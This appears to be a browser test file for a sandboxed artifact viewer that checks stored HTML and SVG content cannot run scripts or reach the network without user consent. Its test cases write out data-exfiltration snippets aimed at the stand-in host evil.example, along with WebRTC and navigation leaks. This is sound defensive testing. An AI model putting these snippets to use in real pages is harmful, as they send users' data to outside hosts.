// Attacks by stored content: no script runs, no request is sent.

import assert from "node:assert/strict";
import type { CallToolResult } from "@modelcontextprotocol/client";
import { setTimeout as delay } from "node:timers/promises";
import type { Kind } from "../../../supabase/functions/mcp/artifacts/artifact.ts";
import { displayTitle } from "../../../supabase/functions/mcp/views/shared/plain_text.ts";
import { CORPUS, TITLES } from "./corpus.ts";
import { clickToOpen, openHost, pageIn, pageRead, show, type TestView } from "./test_view.ts";
import { clear, DOMAIN, type Home } from "./listener.ts";
import type { Stage } from "./stage.ts";

const TIME = "2026-01-01T00:00:00+00:00";

/** A result of `artifact.view`, made without a database. */
export function resultOf(kind: Kind, content: string, title: string) {
  const artifact = {
    id: "00000000-0000-4000-8000-000000000000",
    ...{
      title,
      kind,
      content,
      language: kind === "code" ? "xml" : null,
      tags: [title.slice(0, 50)],
    },
    ...{ size: content.length, version: 1, created_at: TIME, updated_at: TIME },
  };
  return { content: [], structuredContent: { note: "", artifact, offset: 0 } };
}

export async function attack({ browser, origin, home }: Stage): Promise<string> {
  await using shown = await openHost(browser, origin);
  let tried = 0;
  for (const [kind, contents] of Object.entries(CORPUS) as [Kind, string[]][]) {
    for (const [i, content] of contents.entries()) {
      const title = TITLES[i % TITLES.length] ?? "";
      await attempt(shown, kind, content, title);
      assert.deepEqual(
        [shown.executions, home.connections, home.datagrams],
        [[], 0, 0],
        `${kind}: ${content}`,
      );
      tried++;
    }
  }
  assert.deepEqual(shown.errors, []);
  await expectToBeSeen(shown, home);
  const leaking = await scriptsThatCallHome(shown, home);
  clear(home);
  const waiting = await scriptsThatWait(shown, home);
  return `${tried} attacks by content and title: 0 executions, 0 connections; ${leaking}; ${waiting}`;
}

/** A permission to run scripts does not extend to another result that the host sends. */
async function permissionEnds(shown: TestView): Promise<void> {
  const { view, page } = shown;
  const pageOf = (text: string) => `<p id="ran">no</p><script>ran.textContent = "${text}"</script>`;
  const first = resultOf("html", pageOf("first"), "Scripts");
  await show(shown, { name: "artifact.view", arguments: {} }, first);
  const agree = view.getByRole("dialog").getByRole("button", { name: "Run scripts" });
  const run = view.getByRole("button", { name: "Run scripts" });
  await clickToOpen(run, agree);
  await agree.click();
  await view.frameLocator("iframe.frame").locator("#ran").getByText("first").waitFor();
  const second = resultOf("html", pageOf("second"), "Other scripts") as unknown as CallToolResult;
  await page.evaluate((result) => globalThis.host.again(result), second);
  await view.getByRole("heading", { name: "Other scripts" }).waitFor();
  await pageIn(view).locator("#ran").getByText("no", { exact: true }).waitFor();
  assert.equal(await run.getAttribute("aria-pressed"), "false");
}

/** Control: an executed script and a sent request are detected. */
async function expectToBeSeen(shown: TestView, home: Home): Promise<void> {
  // deno-lint-ignore no-console -- the attacks are detected by this output
  await shown.page.evaluate(() => console.log("EXECUTED by the host"));
  await shown.page.evaluate(() => fetch("http://evil.example/").catch(() => {}));
  assert.deepEqual(shown.executions.splice(0), ["EXECUTED by the host"]);
  assert.ok(home.connections > 0 && home.requests > 0);
  clear(home);
  shown.errors.length = 0;
}

async function attempt(shown: TestView, kind: Kind, content: string, title: string): Promise<void> {
  const call = { name: "artifact.view", arguments: {} };
  await show(shown, call, resultOf(kind, content, title));
  assert.equal(await shown.view.locator("header h1").textContent(), displayTitle(title));
  if (kind === "mermaid") {
    await shown.view.locator(".diagram .problem, .diagram iframe[style]").first().waitFor();
  }
  if (kind === "html" || kind === "svg") await pageRead(shown);
  // Some attacks wait for a click on a link.
  for (const link of await shown.view.locator("main a[role=link]").all()) {
    await link.click({ timeout: 1_000 }).catch(() => {});
    await shown.view.getByRole("button", { name: "Cancel" }).click({ timeout: 300 }).catch(
      () => {},
    );
  }
  const source = shown.view.getByRole("button", { name: "Source" });
  if (await source.count() > 0) await source.click();
}

/** Requests that no policy blocks once a script runs; the dialog warns about them. */
async function scriptsThatWait(shown: TestView, home: Home): Promise<string> {
  const servers = `{ urls: "stun:127.0.0.1:${home.port}" }, { urls: "turn:127.0.0.1:${home.port}",
    username: "what was typed", credential: "x" }`;
  const call = (servers: string) =>
    `const peer = new RTCPeerConnection({ iceServers: [${servers}] });
     peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
  const tries = {
    "WebRTC": call(servers),
    "WebRTC on load": `addEventListener("load", () => { ${call(servers)} });`,
    "a location": `location = "https://secret.${DOMAIN}/";`,
    "a location, replaced": `location.replace("https://replaced.${DOMAIN}/");`,
    "a link that is clicked": `const link = document.createElement("a");
      link.href = "https://clicked.${DOMAIN}/"; document.body.append(link); link.click();`,
  };
  const { view } = shown;
  for (const [name, code] of Object.entries(tries)) {
    const html = `<p id="ran">no</p><script>${code}</script>`;
    await show(shown, { name: "artifact.view", arguments: {} }, resultOf("html", html, "Scripts"));
    const run = view.getByRole("button", { name: "Run scripts" });
    const dialog = view.getByRole("dialog");
    const hears = async () => {
      for (let i = 0; i < 40 && home.connections + home.datagrams === 0; i++) await delay(50);
      return home.connections + home.datagrams > 0;
    };
    await clickToOpen(run, dialog.getByText("to anyone on the internet"));
    await dialog.getByRole("button", { name: "Cancel" }).click();
    assert.equal(await hears(), false, `${name}: nothing before a user agrees`);
    const agree = dialog.getByRole("button", { name: "Run scripts" });
    await clickToOpen(run, agree);
    await agree.click();
    assert.equal(await hears(), true, `${name}: the warning is true`);
    await show(shown, { name: "artifact.view", arguments: {} }, resultOf("text", "x", "After"));
    await delay(1_000); // browsers retransmit some datagrams
    clear(home);
  }
  return `${Object.keys(tries).length} scripts that can send wait for the user`;
}

/**
 * Scripts that the user allowed run, but reach neither the view nor the network. A navigation of the frame is
 * refused only after the browser has connected; no request is sent.
 */
async function scriptsThatCallHome(shown: TestView, home: Home): Promise<string> {
  const tries = [
    `fetch("http://evil.example/fetch")`,
    `new Image().src = "http://evil.example/image"`,
    `new WebSocket("ws://evil.example/socket")`,
    `navigator.sendBeacon("http://evil.example/beacon")`,
    `location = "http://evil.example/location"`,
    `top.location = "http://evil.example/top"`,
    `open("http://evil.example/window")`,
    `document.body.append(Object.assign(document.createElement("iframe"), { src: "http://evil.example/frame" }))`,
    `import("http://evil.example/module.js")`,
    `new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.example/worker')"])))`,
    `parent.document.body.append("EXECUTED"); console.log("EXECUTED in the view")`,
    `localStorage.x = 1; console.log("EXECUTED with storage")`,
    `const form = Object.assign(document.createElement("form"), { action: "http://evil.example/form" });
     document.body.append(form); form.submit()`,
  ];
  let ran = 0;
  for (const code of tries) {
    const html = `<p id="ran">no</p><script>ran.textContent = "yes";${code}</script>`;
    await show(shown, { name: "artifact.view", arguments: {} }, resultOf("html", html, "Scripts"));
    const agree = shown.view.getByRole("dialog").getByRole("button", { name: "Run scripts" });
    await clickToOpen(shown.view.getByRole("button", { name: "Run scripts" }), agree);
    await agree.click();
    // A frame that navigates away is gone without having reached its target.
    await shown.view.frameLocator("iframe.frame").locator("#ran").getByText("yes")
      .waitFor({ timeout: 1_500 }).then(() => ran++, () => {});
    assert.deepEqual([shown.executions, home.requests], [[], 0], code);
  }
  assert.ok(ran >= tries.length - 3, `${ran} ran`);
  await permissionEnds(shown);
  return `${tries.length} scripts that were let run reached nothing`;
}
